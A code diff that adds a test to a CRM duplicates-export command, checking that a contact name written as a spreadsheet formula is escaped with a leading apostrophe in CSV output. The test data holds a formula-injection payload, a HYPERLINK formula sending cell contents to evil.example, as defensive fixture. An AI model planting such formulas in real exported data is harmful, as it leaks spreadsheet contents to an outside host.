@@ -1,6 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { Command, CommanderError } from 'commander';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { createContact } from '../crm/index.js';
 import { plantDuplicates } from '../identity/review/testing/planted-duplicates.js';
 import { systemActor } from '../platform/context.js';
 import { buildWorkspace, testApp, type TestApp } from '../platform/testing/test-app.js';
@@ -64,6 +65,30 @@ describe('rapport identity', () => {
     const margaret = rows.find((row) => row.name === 'Margaret Thistlewood')!;
     expect(margaret.emails).toBe('margaret.thistlewood@globex.net');
     expect(new Set(rows.map((row) => row.contact_id)).size).toBe(rows.length);
+  });
+
+  it('duplicates writes a name that reads as a formula as text, so a spreadsheet does not run it', async () => {
+    const ws = await buildWorkspace(t.db);
+    const ctx = { workspaceId: ws.workspaceId, actor: systemActor(), db: t.db, requestId: 'test' };
+    await plantDuplicates(ctx, 60);
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Ann")';
+    const person = {
+      firstName: formula,
+      lastName: 'Able',
+      emails: [{ address: 'ann.able@example.test' }],
+      phones: [{ number: '+44 7700 900555' }],
+    };
+    await createContact(ctx, person);
+    await createContact(ctx, { ...person, phones: [] });
+    await identityResolveCommand(t.db, { workspace: ws.workspaceId }, () => {});
+    const names = async (options: Partial<DuplicatesOptions>, columns: string[]) =>
+      (parse(await run({ workspace: ws.workspaceId, ...options }), { columns: true }) as Record<string, string>[]).flatMap((row) =>
+        columns.map((column) => row[column]!),
+      );
+    const paired = (await names({}, ['left_name', 'right_name'])).filter((name) => name.includes('HYPERLINK'));
+    expect(paired).toEqual([`'${formula} Able`, `'${formula} Able`]);
+    const grouped = (await names({ clusters: true }, ['name'])).filter((name) => name.includes('HYPERLINK'));
+    expect(grouped).toEqual([`'${formula} Able`, `'${formula} Able`]);
   });
 
   it('duplicates --format json prints the pairs, or the groups, as JSON', async () => {
